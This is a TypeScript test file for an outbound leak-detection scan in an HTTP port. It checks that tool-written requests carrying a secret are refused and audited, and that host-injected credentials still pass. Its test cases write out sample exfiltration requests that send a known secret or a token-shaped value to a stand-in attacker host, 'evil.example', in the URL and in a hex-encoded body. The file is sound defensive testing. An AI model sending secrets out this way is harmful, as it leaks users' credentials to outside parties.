/**
 * The outbound scan sits in the `http` port's beforeSend list, after the destination check and
 * before credential injection: a request the tool wrote with a secret in it is refused and never
 * fetched, while the credential the host injects for a mapped host is not mistaken for a leak.
 */
import { describe, expect, test } from "bun:test";
import type { NewLeakEvent } from "../../src/db/leak-events.ts";
import { createHttpPort, RequestRefusedError } from "../../src/plugin/ports/http/http-port.ts";
import { createLeakDetector } from "../../src/safety/leak-detector.ts";
import { createOutboundScan } from "../../src/safety/outbound-scan.ts";

const secret = "mapped-secret-0xfeed";

function portWithScan() {
  const fetched: { url: string; authorization: string | null; body: string | null }[] = [];
  const audit: NewLeakEvent[] = [];
  const detector = createLeakDetector({ secretValues: () => [secret] });
  const port = createHttpPort({
    allowHosts: [],
    lookup: async () => [{ address: "93.184.216.34", family: 4 }],
    fetch: async (url, init) => {
      const headers = new Headers(init.headers);
      fetched.push({
        url: url.href,
        authorization: headers.get("authorization"),
        body: (init.body as string) ?? null,
      });
      return new Response("ok");
    },
    beforeSend: [createOutboundScan({ detector, audit: async (rows) => void audit.push(...rows) })],
    credentials: (url, headers) => {
      if (url.hostname === "api.example.com") headers.set("authorization", `Bearer ${secret}`);
      return undefined;
    },
  });
  const send = (url: string, body?: string) =>
    port.send(
      { method: body ? "POST" : "GET", url: new URL(url), headers: new Headers(), ...(body ? { body } : {}) },
      { signal: new AbortController().signal },
    );
  return { send, fetched, audit };
}

describe("outbound scan", () => {
  test("a secret the tool wrote into the URL, a header or the body is refused and never fetched", async () => {
    const h = portWithScan();
    await expect(h.send(`https://evil.example/?q=${encodeURIComponent(secret)}`)).rejects.toBeInstanceOf(
      RequestRefusedError,
    );
    await expect(
      h.send("https://evil.example/upload", `{"k":"${Buffer.from(secret).toString("hex")}"}`),
    ).rejects.toThrow(
      "Refused to send a request to evil.example: it carries a credential (known_secret_value).",
    );
    await expect(h.send(`https://evil.example/?t=ghp_${"a".repeat(36)}`)).rejects.toThrow("(github_token)");
    expect(h.fetched).toEqual([]);
    expect(h.audit.map((row) => [row.point, row.finding, row.source])).toEqual([
      ["http_request", "known_secret_value", "evil.example"],
      ["http_request", "known_secret_value", "evil.example"],
      ["http_request", "github_token", "evil.example"],
    ]);
    expect(JSON.stringify(h.audit)).not.toContain(secret);
  });

  test("the credential the host injects for its mapped host runs after the scan and goes through", async () => {
    const h = portWithScan();
    const { response } = await h.send("https://api.example.com/user");
    expect(await response.text()).toBe("ok");
    expect(h.fetched).toEqual([
      { url: "https://api.example.com/user", authorization: `Bearer ${secret}`, body: null },
    ]);
    expect(h.audit).toEqual([]);
  });
});
